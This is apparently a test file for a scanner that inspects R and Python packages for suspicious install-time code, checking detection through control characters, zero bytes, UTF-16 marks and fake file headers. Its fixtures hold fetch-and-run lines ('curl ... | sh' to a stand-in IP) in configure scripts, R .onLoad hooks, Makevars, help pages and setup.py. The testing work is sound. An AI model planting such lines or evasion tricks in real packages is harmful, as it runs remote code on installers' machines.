import { randomBytes } from "node:crypto";
import { describe, expect, test } from "vitest";
import { inspect } from "../inspect.ts";
import { inspectionLimits } from "../limits.ts";
import { readText } from "../member-text.ts";
import { rPackage, type SamplePackage, sdist, wheel } from "../testing/packages.ts";

const controls = `# ${"\u0001\u0002".repeat(40)}\n`;
const shell = "curl -s http://203.0.113.7/x | sh\n";
const onLoad = '.onLoad <- function(libname, pkgname) system("curl -s http://203.0.113.7/x")\n';
const python = "import os\nos.system('curl -s http://203.0.113.7/x | sh')\n";

const signalsOf = async ({ source, ...what }: SamplePackage) =>
  (await inspect(source, what)).signals.map(({ id, level, file, subject }) => `${level} ${id} ${file} ${subject}`);

const bytes = (...parts: (string | number[])[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))));

describe("code is read whatever it contains", () => {
  test.each<[string, () => Promise<SamplePackage>, string, RegExp]>([
    ["control characters", () => rPackage({ "R/x.q": controls + onLoad }), "R/x.q", / r-on-load R\/x\.q/],
    ["a zero byte", () => rPackage({ "R/x.R": `# a\0b\n${onLoad}` }), "R/x.R", / r-on-load R\/x\.R/],
    ["controls in a script", () => rPackage({ configure: controls + shell }), "configure", /r-configure configure cu/],
    [
      "zero bytes in a word",
      () => rPackage({ configure: "cu\0rl -s http://203.0.113.7/x | s\0h\n" }),
      "configure",
      /r-configure configure curl/,
    ],
    [
      "a mark of UTF-16",
      () => rPackage({ configure: bytes([0xff, 0xfe], `\n${shell}${shell}`) }),
      "configure",
      /r-configure configure cu/,
    ],
    [
      "the beginning of a picture",
      () => rPackage({ configure: `GIF89a=1\n${shell}` }),
      "configure",
      /r-configure configure cu/,
    ],
    [
      "bytes that are mostly no text",
      () => rPackage({ "src/Makevars": bytes("# ", Array(200).fill(0xe9), `\nX := $(shell ${shell.trim()})\n`) }),
      "src/Makevars",
      /r-makevars-shell src\/Makevars/,
    ],
    [
      "a zero byte in a page of help",
      () =>
        rPackage({
          "man/a.Rd": `% a\0b\n\\name{a}\\title{a}\\section{X}{\\Sexpr[stage=install]{system("curl http://203.0.113.7")}}\n`,
        }),
      "man/a.Rd",
      /r-help-code man\/a\.Rd/,
    ],
    [
      "controls in a module",
      () => sdist({ "tides/a.pyw": controls + python }),
      "tides/a.pyw",
      / process tides\/a\.pyw/,
    ],
    ["a zero byte in setup.py", () => sdist({ "setup.py": `# \0\n${python}` }), "setup.py", / process setup\.py/],
  ])("%s", async (_, sample, path, expected) => {
    const { source, ...what } = await sample();
    const found = await signalsOf({ source, ...what });
    expect(found).toContainEqual(expect.stringMatching(expected));
    expect(found).toContainEqual(expect.stringContaining(`warning content-differs-from-name ${path}`));
    expect(await readText({ source, fileName: what.fileName }, path)).not.toBeNull();
  });
});

test("scripts are known by their first line", async () => {
  const found = await signalsOf(await wheel({ "tides-1.0.0.data/scripts/tides": `#!python\n# \0\n${python}` }));
  expect(found).toContain("warning content-differs-from-name tides-1.0.0.data/scripts/tides other");
});

test("texts in UTF-16 and latin1, data and programs are what they are", async () => {
  const found = await signalsOf(
    await rPackage({
      "inst/a.ps1": bytes([0xff, 0xfe], [...Buffer.from("Write-Output 1\r\n", "utf16le")]),
      "R/a.R": bytes("# caf", [0xe9], "\nheight <- 1\n"),
      "inst/extdata/a.dat": randomBytes(300),
    }),
  );
  expect(found).toEqual([]);
});

test("code that is too large to be read counts as not examined, even if it looks like no text", async () => {
  const { source, ...what } = await rPackage({ "R/x.q": `\0${"x".repeat(5000)}` });
  const { incomplete } = await inspect(source, what, { limits: { ...inspectionLimits, textBytes: 4500 } });
  expect(incomplete).toEqual([{ reason: "size", paths: ["R/x.q"] }]);
});
